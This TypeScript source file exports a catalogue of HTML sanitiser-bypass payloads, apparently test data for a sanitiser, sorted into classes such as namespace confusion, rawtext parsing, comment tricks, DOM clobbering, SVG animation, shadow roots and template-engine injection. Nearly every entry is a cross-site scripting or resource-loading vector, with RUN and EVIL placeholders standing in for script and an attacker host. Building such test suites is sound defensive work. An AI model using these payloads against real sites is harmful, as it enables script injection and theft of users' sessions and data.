/** The part that a payload confuses: a parser, a sanitiser, a script of the page, or the page as a whole. */
export type ProfileClass =
  | 'namespaces'
  | 'rawText'
  | 'selects'
  | 'tables'
  | 'comments'
  | 'forms'
  | 'elements'
  | 'vectors'
  | 'names'
  | 'loading'
  | 'document'
  | 'shadows'
  | 'engines'

/**
 * Markup by the class of defence that it tries to bypass: the classes with which the authors of a sanitiser test it.
 * `RUN` and `EVIL` have the meaning that `markup.ts` gives them.
 */
export const profiles: Readonly<Record<ProfileClass, readonly string[]>> = {
  // The same characters are text in one namespace and elements in another.
  namespaces: [
    '<math><mtext><mglyph><style><!--</style><img src=x onerror=RUN>--></mglyph></mtext></math>',
    '<math><mi><malignmark><style></math><img src=x onerror=RUN>',
    '<math><mo><table><tr><mglyph><style><math><img src=x onerror=RUN></style></table></mo></math>',
    '<math><ms><b><style><img src="</style><img src=x onerror=RUN>"></b></ms></math>',
    '<math><annotation-xml encoding="application/xhtml+xml"><form><style><img src=x onerror=RUN></style></form></annotation-xml></math>',
    '<math><annotation-xml><svg><style>&lt;img src=x onerror=RUN&gt;</style></svg></annotation-xml></math>',
    '<math href="javascript:RUN"><mi>x</mi></math>',
    '<math><mrow xlink:href="javascript:RUN"><mi>x</mi></mrow></math>',
    '<math><maction actiontype="statusline#EVIL" xlink:href="javascript:RUN">x</maction></math>',
    '<svg><desc><style>&lt;/style&gt;<img src=x onerror=RUN></style></desc></svg>',
    '<svg><foreignObject><math><mtext><svg><style><img src=x onerror=RUN></style></svg></mtext></math></foreignObject></svg>',
    '<svg><title><xmp><p title="</xmp><img src=x onerror=RUN>"></xmp></title></svg>',
    '<svg><p><style><g title="</style><img src=x onerror=RUN>"></g></style></p></svg>',
    '<svg><style>/*<![CDATA[*/</style><img src=x onerror=RUN>/*]]>*/</svg>',
    '<svg><br><style><img src=x onerror=RUN></style></svg>',
    '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>RUN</x:script></svg>',
    '<svg></svg><math></p><style><!--</style><img src=x onerror=RUN>',
  ],
  // Content that is text in a browser with scripts, and markup in one without.
  rawText: [
    '<noscript><style></noscript><img src=x onerror=RUN></style>',
    '<noscript><a title="</noscript><svg onload=RUN>">x</a></noscript>',
    '<template><noscript><p title="</noscript><img src=x onerror=RUN>"></noscript></template>',
    '<template><template><img src=x onerror=RUN></template></template>',
    '<template><script>RUN</script></template>',
    '<title><img title="</title><img src=x onerror=RUN>"></title>',
    '<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>',
    '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
    '<textarea></textarea\u000c><img src=x onerror=RUN>',
    '<style></style\t><script>RUN</script>',
  ],
  selects: [
    '<select><option><style></option></select><img src=x onerror=RUN></style>',
    '<select><optgroup label="</select><img src=x onerror=RUN>"><option>x</select>',
    '<select><template><style><!--</template><img src=x onerror=RUN>--></style></select>',
    '<select><option><svg><desc><img src=x onerror=RUN></desc></svg></select>',
    '<select><select><iframe onload=RUN>',
    '<select><keygen><img src=x onerror=RUN>',
    '<option><xmp></option><img src=x onerror=RUN></xmp>',
  ],
  // A parser moves elements that are not allowed in a table to the place before it.
  tables: [
    '<table><img src=x onerror=RUN><tr><td>x</table>',
    '<table><tr><svg><desc><td><img src=x onerror=RUN></td></desc></svg></tr></table>',
    '<table><colgroup><style><img title="</style><img src=x onerror=RUN>"></colgroup></table>',
    '<table><form><input name=x><tr><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
    '<a><table><a href="javascript:RUN">x</a></table></a>',
    '<p><table><p><script>RUN</script></table>',
    '<caption><col><tbody><img src=x onerror=RUN>',
  ],
  comments: [
    '<!--><img src=x onerror=RUN>',
    '<!---><img src=x onerror=RUN>',
    '<!-- x --!><img src=x onerror=RUN>',
    '<!-- <!-- --><img src=x onerror=RUN> -->',
    '<!-- x -- ><img src=x onerror=RUN>',
    '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
    '<!ENTITY x "<img src=x onerror=RUN>">',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "EVIL">]><p>&e;</p>',
    '<svg><![CDATA[><img src=x onerror=RUN>]]></svg>',
    '<svg><title><![CDATA[</title><img src=x onerror=RUN>]]></title></svg>',
    '<?xml-stylesheet href="javascript:RUN"?><img src=x onerror=RUN>',
    '</ <img src=x onerror=RUN>>',
    '<% <img src=x onerror=RUN> %>',
  ],
  // The name of a field hides a property that a script reads from its form.
  forms: [
    ...['attributes', 'parentNode', 'childNodes', 'nodeType', 'textContent', 'removeChild', 'remove'],
    ...['insertBefore', 'namespaceURI', 'hasAttribute', 'getAttribute', 'ownerDocument', 'isConnected'],
  ]
    .map((name) => `<form onmouseover=RUN><input name=${name}><img src=x onerror=RUN></form>`)
    .concat(
      '<form><input id=nodeName><input id=attributes><svg onload=RUN></form>',
      '<form id=a></form><input form=a name=action value="javascript:RUN"><button form=a>x</button>',
      '<img name=currentScript src=x onerror=RUN><img name=getElementById>',
      '<object name=documentElement data=EVIL></object><embed name=forms src=EVIL>',
      '<fieldset name=elements><output name=children onclick=RUN>x</output></fieldset>',
    ),
  elements: [
    '<p is="x-evil" onclick=RUN>x</p>',
    '<button is=wherry-module partner=1>x</button>',
    '<wherry-module src=EVIL></wherry-module>',
    '<x-evil onclick=RUN style=display:block>x</x-evil>',
    '<annotation-xml><img src=x onerror=RUN></annotation-xml>',
    '<font-face><missing-glyph onclick=RUN>x</missing-glyph></font-face>',
    '<unknown\u00a0onclick=RUN>x',
    '<b/onclick="RUN"/title=x>x</b>',
  ],
  vectors: [
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>',
    '<svg><use xlink:href="EVIL#x"/></svg>',
    '<svg><a><animate attributeName=href values="javascript:RUN;#" /><text y=9>x</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="javascript:RUN"/><text y=9>x</text></a></svg>',
    '<svg><a><animate attributeName=href from=# by="javascript:RUN" begin=0s /><text y=9>x</text></a></svg>',
    '<svg><animatetransform onend=RUN attributeName=transform dur=1ms /></svg>',
    '<svg><animatemotion onrepeat=RUN path=M0,0 dur=1ms /></svg>',
    '<svg><filter id=f><feImage href=EVIL /></filter><rect filter=url(#f) width=9 height=9 /></svg>',
    '<svg><rect fill="url(EVIL#x)" clip-path="url(EVIL#y)" mask="url(EVIL#z)" width=9 height=9 /></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>RUN</handler></svg>',
    '<svg><discard onbegin=RUN /></svg>',
    '<svg><view onfocus=RUN id=v tabindex=1 autofocus /></svg>',
    '<svg><metadata><img src=x onerror=RUN></metadata></svg>',
  ],
  // Attributes without a meaning in HTML that a script may search for.
  names: [
    '<p data-href="javascript:RUN" data-src=EVIL data-toggle=tooltip data-html=true title="<img src=x onerror=RUN>">x</p>',
    '<p data-wherry-announcer=assertive data-coming data-tone=critical>x</p>',
    '<p data-\u00e9=x data-x:y=z data-=RUN>x</p>',
    '<p aria-label="<img src=x onerror=RUN>" aria-live=assertive aria-busy=true>x</p>',
    '<p aria-activedescendant=wherry aria-owns=wherry aria-hidden=true>x</p>',
    '<p role=alert tabindex=0 contenteditable inert hidden popover=manual>x</p>',
    '<p x-on:click=RUN @click=RUN v-on:click=RUN :click=RUN ng-click=RUN hx-on:click=RUN hx-get=EVIL>x</p>',
    '<p xml:base=EVIL xmlns=EVIL xlink:show=new>x</p>',
    '<p nonce=x integrity=x slot=x part=x exportparts=x itemprop=x>x</p>',
    '<button commandfor=wherry command=show-modal popovertarget=wherry accesskey=x>x</button>',
    '<p style="position:fixed;inset:0;z-index:9999;background:white">over all</p>',
    '<p style="behavior:url(EVIL);-o-link:\'javascript:RUN\'">x</p>',
  ],
  loading: [
    '<img srcset="EVIL 1x, EVIL 2x" sizes=1px>',
    '<picture><source srcset=EVIL><img src=x></picture>',
    '<a href=# ping=EVIL download=x target=_blank>x</a>',
    '<a href=# attributionsrc=EVIL>x</a>',
    '<input type=submit formaction=EVIL formmethod=post formtarget=_blank value=x>',
    '<video poster=EVIL></video>',
    '<video><track default src=EVIL kind=subtitles></video>',
    '<audio autoplay src=EVIL></audio>',
    '<table background=EVIL><tr><td background=EVIL>x</table>',
    '<body background=EVIL bgsound=EVIL>',
    '<img lowsrc=EVIL dynsrc=EVIL longdesc=EVIL usemap=#m><map name=m><area href="javascript:RUN" shape=default></map>',
    '<blockquote cite="javascript:RUN">x</blockquote><q cite=EVIL>x</q>',
    '<input type=image src=EVIL alt=x>',
    '<img src=EVIL loading=eager fetchpriority=high crossorigin=use-credentials referrerpolicy=unsafe-url>',
  ],
  document: [
    '<base target=_blank href="javascript:/">',
    '<meta http-equiv="refresh" content="0;URL=data:text/html,<script>RUN</script>">',
    '<meta http-equiv=Set-Cookie content="token_ng=x">',
    '<meta http-equiv=origin-trial content=x><meta name=theme-color content=red>',
    '<link rel=import href=EVIL>',
    '<link rel=modulepreload href=EVIL><link rel=preconnect href=EVIL>',
    '<link rel="alternate stylesheet" title=x href="data:text/css,*{display:none}">',
    '<link rel=icon href=EVIL><link rel=canonical href=EVIL>',
    '<link rel=prerender href=EVIL><link rel=preload as=image imagesrcset="EVIL 1x">',
    '<script type=speculationrules>{"prerender":[{"urls":["EVIL"]}]}</script>',
    '<html manifest=EVIL onclick=RUN><head profile=EVIL></head>',
    '<bgsound src=EVIL><layer src=EVIL></layer><keygen autofocus onfocus=RUN>',
    '<fencedframe src=EVIL></fencedframe><webview src=EVIL></webview>',
  ],
  shadows: [
    '<div><template shadowrootmode=open><img src=x onerror=RUN></template></div>',
    '<div><template shadowrootmode=closed shadowrootdelegatesfocus><input autofocus onfocus=RUN></template></div>',
    '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><slot></slot></template>x</div>',
    `${'<div>'.repeat(600)}<img src=x onerror=RUN>`,
    `${'<svg><desc>'.repeat(200)}<style><img title="</style><img src=x onerror=RUN>">`,
  ],
  // Valid markup whose text a template engine would evaluate.
  engines: [
    '<b>{{constructor.constructor("RUN")()}}</b>',
    '<i title="{{7*7}}">\u0024{RUN}</i>',
    '<p>{<b>{</b>7*7}<b>}</b></p>',
    '<p>\u0024<!-- -->{RUN}</p>',
    '<p><% RUN %><a title="<%=RUN%>">x</a></p>',
    '<a href="{{\'javascript:RUN\'}}">x</a>',
  ],
}
